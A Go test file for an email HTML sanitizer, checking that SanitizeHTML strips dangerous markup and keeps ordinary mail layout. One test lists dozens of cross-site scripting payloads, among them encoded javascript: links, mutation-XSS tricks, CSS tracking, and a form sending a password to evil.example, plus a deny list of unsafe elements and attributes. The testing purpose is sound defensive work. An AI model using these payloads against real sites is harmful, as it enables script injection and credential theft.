package content

import (
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

func testCIDURL(id string) (string, bool) {
	switch id {
	case "logo@example.com", "part1.abc":
		return "https://api.example.test/api/v1/attachments/att_" + strings.SplitN(id, "@", 2)[0], true
	}
	return "", false
}

// unsafeHTML walks parsed HTML and describes the first thing a browser could
// run or load from it, or returns "".
func unsafeHTML(out string) string {
	if strings.Contains(strings.ToLower(out), "<script") {
		return "contains <script"
	}
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		return "does not parse: " + err.Error()
	}
	var problem string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if problem != "" {
			return
		}
		if n.Type == html.ElementNode {
			switch strings.ToLower(n.Data) {
			case "script", "iframe", "object", "embed", "form", "input", "button", "textarea", "select",
				"style", "link", "meta", "base", "frame", "frameset", "svg", "math", "applet":
				problem = "element <" + n.Data + ">"
				return
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				val := strings.Map(func(r rune) rune {
					if r <= ' ' || r == 0x7f {
						return -1
					}
					return r
				}, strings.ToLower(a.Val))
				switch {
				case strings.HasPrefix(key, "on"):
					problem = "handler attribute " + a.Key
				case strings.HasPrefix(val, "javascript:") || strings.HasPrefix(val, "data:") ||
					strings.HasPrefix(val, "vbscript:"):
					problem = fmt.Sprintf("%s=%q", a.Key, a.Val)
				case key == "style" && cssLoads(a.Val):
					problem = fmt.Sprintf("style %q", a.Val)
				case key == "srcset" || key == "background" || key == "formaction" || key == "xlink:href":
					problem = "attribute " + a.Key
				case key == "src" && !strings.HasPrefix(val, "https://api.example.test/"):
					problem = fmt.Sprintf("external src %q", a.Val)
				}
				if problem != "" {
					return
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return problem
}

func TestSanitizeHTMLRemovesDanger(t *testing.T) {
	inputs := []string{
		`<script>alert(1)</script><p>hi</p>`,
		`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
		`<img src=x onerror=alert(1)>`,
		`<a href="javascript:alert(1)">x</a>`,
		`<a href="JaVaScRiPt&#58;alert(1)">x</a>`,
		`<a href="java&#x09;script:alert(1)">x</a>`,
		`<a href=" javascript:alert(1)">x</a>`,
		`<a href="vbscript:msgbox(1)">x</a>`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
		`<img src="data:image/png;base64,iVBORw0KGgo=">`,
		`<iframe src="https://evil.example"></iframe>`,
		`<object data="x.swf"></object><embed src="x.swf">`,
		`<form action="https://evil.example/steal"><input name=pw type=password><button>Go</button></form>`,
		`<div style="background:url(https://t.example/p.gif)">x</div>`,
		`<div style="background-image: url('https://t.example/p.gif')">x</div>`,
		`<div style="width: expression(alert(1))">x</div>`,
		`<div style="behavior: url(x.htc)">x</div>`,
		`<div style="color: red; -moz-binding: url(x.xml#xss)">x</div>`,
		`<div style="font-family: '\75 rl(x)'">x</div>`,
		`<style>@import url(https://evil.example/x.css); body{background:url(x)}</style><p>x</p>`,
		`<link rel=stylesheet href="https://evil.example/x.css">`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
		`<base href="https://evil.example/">`,
		`<svg><script>alert(1)</script></svg>`,
		`<svg onload=alert(1)><circle r=1 /></svg>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<table background="https://t.example/bg.png"><tr><td background="https://t.example/bg.png">x</td></tr></table>`,
		`<img srcset="https://t.example/a.png 1x" src="cid:logo@example.com">`,
		`<img src="https://tracker.example/open.gif?u=1" width=1 height=1>`,
		`<img src="http://images.example/banner.png">`,
		`<img src="cid:unknown@example.com">`,
		`<img src="//cdn.example/x.png">`,
		`<img src="/relative.png">`,
		`<a href="/api/v1/tokens">relative</a>`,
		`<<script>script>alert(1)<</script>/script>`,
		`<img src="cid:logo@example.com" src="https://tracker.example/x.gif">`,
		`<div onclick="alert(1)" onmouseover=alert(1)>x</div>`,
		`<body onload=alert(1)>`,
		`<a href="https://ok.example" onclick="steal()">ok</a>`,
		`<xmp><img src=x onerror=alert(1)></xmp>`,
		`<textarea><img src=x onerror=alert(1)></textarea>`,
	}
	for _, in := range inputs {
		t.Run(in, func(t *testing.T) {
			out := SanitizeHTML(in, testCIDURL)
			if p := unsafeHTML(out); p != "" {
				t.Errorf("SanitizeHTML(%q) = %q: %s", in, out, p)
			}
		})
	}
}

func TestSanitizeHTMLKeepsMail(t *testing.T) {
	tests := []struct {
		name, in string
		want     []string // substrings of the output
		notWant  []string
	}{
		{
			name: "link gets rel and target",
			in:   `<p>See <a href="https://example.com/page?a=1&amp;b=2">this</a></p>`,
			want: []string{`href="https://example.com/page?a=1&amp;b=2"`, `rel="noreferrer noopener"`, `target="_blank"`, `<p>`},
		},
		{
			name:    "text shrunk to nothing or made transparent is shown",
			in:      `<p><span style="font-size:0">a</span><span style="font-size: 1px">b</span><span style="font-size:0.1em">c</span><span style="color:transparent">d</span><span style="color: rgba(0, 0, 0, 0)">e</span><span style="color:#ffffff00">f</span></p>`,
			want:    []string{">a<", ">b<", ">c<", ">d<", ">e<", ">f<"},
			notWant: []string{"font-size", "color", "style="},
		},
		{
			name:    "text pushed off the page is shown",
			in:      `<p style="text-indent:-9999px">a</p><div style="margin:0 0 0 -2000px">b</div><p style="letter-spacing:-1em">c</p>`,
			want:    []string{">a<", ">b<", ">c<"},
			notWant: []string{"text-indent", "margin", "letter-spacing"},
		},
		{
			name: "ordinary sizes, colours and small negative margins are kept",
			in:   `<p style="font-size:14px;color:#333333">a</p><p style="font-size:0.9em;margin-left:-5px">b</p><p style="font-size:90%;color:rgba(0,0,0,0.8)">c</p>`,
			want: []string{"font-size: 14px", "color: #333333", "font-size: 0.9em", "margin-left: -5px", "font-size: 90%"},
		},
		{
			name: "mailto link kept",
			in:   `<a href="mailto:ada@example.com">Ada</a>`,
			want: []string{`href="mailto:ada@example.com"`, `noreferrer`},
		},
		{
			name: "cid image rewritten",
			in:   `<img src="cid:logo@example.com" alt="Logo" width="120">`,
			want: []string{`src="https://api.example.test/api/v1/attachments/att_logo"`, `alt="Logo"`, `width="120"`},
		},
		{
			name: "percent-encoded cid image rewritten",
			in:   `<img src="cid:part1%2Eabc">`,
			want: []string{`src="https://api.example.test/api/v1/attachments/att_part1.abc"`},
		},
		{
			name:    "external and unknown images removed, text kept",
			in:      `<p>Hello<img src="https://t.example/p.gif"><img src="cid:nope"> world</p>`,
			want:    []string{"Hello", "world"},
			notWant: []string{"<img", "t.example"},
		},
		{
			name: "table layout kept",
			in:   `<table width="600" cellpadding="0" bgcolor="#ffffff"><tr><td align="center" colspan="2" style="padding: 10px; color: #333333; font-family: Arial, sans-serif">Hi</td></tr></table>`,
			want: []string{`<table width="600" cellpadding="0" bgcolor="#ffffff">`, `align="center"`, `colspan="2"`, `padding: 10px`, `color: #333333`, `font-family: Arial, sans-serif`},
		},
		{
			name:    "formatting kept, script content gone",
			in:      `<h1>Title</h1><b>bold</b> <i>it</i><ul><li>one</li></ul><blockquote>q</blockquote><script>var secret=1</script>`,
			want:    []string{"<h1>Title</h1>", "<b>bold</b>", "<i>it</i>", "<li>one</li>", "<blockquote>q</blockquote>"},
			notWant: []string{"secret"},
		},
		{
			name:    "hiding and positioning styles dropped",
			in:      `<div style="display:none; position:absolute; color: red">x</div>`,
			want:    []string{"color: red", ">x</div>"},
			notWant: []string{"display", "position"},
		},
		{
			name:    "ids and classes dropped",
			in:      `<div id="login" class="btn">x</div>`,
			notWant: []string{"id=", "class="},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := SanitizeHTML(tt.in, testCIDURL)
			for _, w := range tt.want {
				if !strings.Contains(out, w) {
					t.Errorf("output %q lacks %q", out, w)
				}
			}
			for _, w := range tt.notWant {
				if strings.Contains(out, w) {
					t.Errorf("output %q contains %q", out, w)
				}
			}
			if p := unsafeHTML(out); p != "" {
				t.Errorf("unsafe output %q: %s", out, p)
			}
		})
	}
}

func TestSanitizeHTMLNilCIDURL(t *testing.T) {
	out := SanitizeHTML(`<p>a<img src="cid:logo@example.com">b</p>`, nil)
	if strings.Contains(out, "<img") {
		t.Errorf("image kept without a cid resolver: %q", out)
	}
}
